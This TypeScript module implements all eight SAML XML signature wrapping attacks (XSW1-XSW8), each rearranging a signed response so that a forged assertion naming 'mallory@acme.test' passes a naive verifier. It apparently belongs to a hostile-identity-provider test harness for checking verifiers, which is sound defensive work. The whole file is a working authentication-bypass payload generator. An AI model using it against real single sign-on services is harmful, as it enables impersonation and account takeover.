/**
 * The eight XML signature wrapping layouts (XSW1-XSW8, Somorovsky et al., "On Breaking SAML:
 * Be Whoever You Want to Be", USENIX Security 2012; numbered as SAML Raider does). Each takes
 * a correctly signed Response and moves the signed element where a naive verifier still finds
 * it, while an evil element with another subject sits where a naive reader looks.
 */
import { newId, parse, serialize } from "./hostile-idp.js";

const SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol";
const SAML = "urn:oasis:names:tc:SAML:2.0:assertion";
const DS = "http://www.w3.org/2000/09/xmldsig#";

export const EVIL_SUBJECT = "mallory@acme.test";

export type WrappingLayout = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

/** XSW1 and XSW2 wrap the Response's signature; the others the assertion's. */
export function needsSignedResponse(layout: WrappingLayout): boolean {
  return layout <= 2;
}

export function wrapSignature(signedXml: string, layout: WrappingLayout): string {
  const document = parse(signedXml);
  const response = document.documentElement!;
  const assertion = first(response, SAML, "Assertion");
  switch (layout) {
    case 1: {
      // An evil Response carries the original signature; the original Response hides in ds:Object.
      const signature = directSignature(response);
      const evil = evilResponse(response);
      document.removeChild(response);
      response.removeChild(signature);
      insertAfterIssuer(evil, signature);
      objectIn(signature).appendChild(response);
      document.appendChild(evil);
      return serialize(document);
    }
    case 2: {
      // Detached: the original Response becomes a sibling before the signature in the evil one.
      const signature = directSignature(response);
      const evil = evilResponse(response);
      document.removeChild(response);
      response.removeChild(signature);
      insertAfterIssuer(evil, signature);
      evil.insertBefore(response, signature);
      document.appendChild(evil);
      return serialize(document);
    }
    case 3: {
      // An evil assertion is inserted before the signed one.
      response.insertBefore(evilAssertion(assertion, { keepSignature: false }), assertion);
      return serialize(document);
    }
    case 4: {
      // An evil assertion wraps the signed one.
      const evil = evilAssertion(assertion, { keepSignature: false });
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      return serialize(document);
    }
    case 5: {
      // The signed assertion's content is changed; an unsigned copy of the original goes last.
      const copy = assertion.cloneNode(true) as Element;
      copy.removeChild(directSignature(copy));
      setSubject(assertion, EVIL_SUBJECT);
      response.appendChild(copy);
      return serialize(document);
    }
    case 6: {
      // The changed assertion keeps its signature; the original (signed) sits inside that signature.
      const copy = assertion.cloneNode(true) as Element;
      setSubject(assertion, EVIL_SUBJECT);
      objectIn(directSignature(assertion)).appendChild(copy);
      return serialize(document);
    }
    case 7: {
      // The signed assertion moves into samlp:Extensions; an evil one takes its place.
      const extensions = document.createElementNS(SAMLP, "samlp:Extensions");
      const evil = evilAssertion(assertion, { keepSignature: false });
      response.replaceChild(evil, assertion);
      extensions.appendChild(assertion);
      insertAfterIssuer(response, extensions);
      return serialize(document);
    }
    case 8: {
      // Like XSW6, with the original's own signature removed from the copy in ds:Object.
      const copy = assertion.cloneNode(true) as Element;
      copy.removeChild(directSignature(copy));
      setSubject(assertion, EVIL_SUBJECT);
      objectIn(directSignature(assertion)).appendChild(copy);
      return serialize(document);
    }
  }
}

function evilResponse(original: Element): Element {
  const evil = original.cloneNode(true) as Element;
  evil.setAttribute("ID", newId());
  const signature = children(evil, DS, "Signature")[0];
  if (signature) evil.removeChild(signature);
  const assertion = first(evil, SAML, "Assertion");
  evil.replaceChild(evilAssertion(assertion, { keepSignature: false }), assertion);
  return evil;
}

function evilAssertion(original: Element, options: { keepSignature: boolean }): Element {
  const evil = original.cloneNode(true) as Element;
  evil.setAttribute("ID", newId());
  const signature = children(evil, DS, "Signature")[0];
  if (signature && !options.keepSignature) evil.removeChild(signature);
  setSubject(evil, EVIL_SUBJECT);
  return evil;
}

function setSubject(assertion: Element, subject: string): void {
  const nameId = first(assertion, SAML, "NameID");
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(assertion.ownerDocument.createTextNode(subject));
  for (const value of Array.from(assertion.getElementsByTagNameNS(SAML, "AttributeValue"))) {
    if (value.textContent?.includes("@")) {
      while (value.firstChild) value.removeChild(value.firstChild);
      value.appendChild(assertion.ownerDocument.createTextNode(subject));
    }
  }
}

function objectIn(signature: Element): Element {
  const object = signature.ownerDocument.createElementNS(DS, "ds:Object");
  signature.appendChild(object);
  return object;
}

function insertAfterIssuer(parent: Element, node: Node): void {
  const issuer = first(parent, SAML, "Issuer");
  parent.insertBefore(node, issuer.nextSibling);
}

function directSignature(element: Element): Element {
  const signature = children(element, DS, "Signature")[0];
  if (!signature) throw new Error(`<${element.localName}> is not signed`);
  return signature;
}

function first(element: Element, namespace: string, localName: string): Element {
  const found = element.getElementsByTagNameNS(namespace, localName).item(0);
  if (!found) throw new Error(`no ${localName}`);
  return found;
}

function children(element: Element, namespace: string, localName: string): Element[] {
  return Array.from(element.childNodes).filter(
    (n): n is Element =>
      n.nodeType === 1 && (n as Element).namespaceURI === namespace && (n as Element).localName === localName,
  );
}
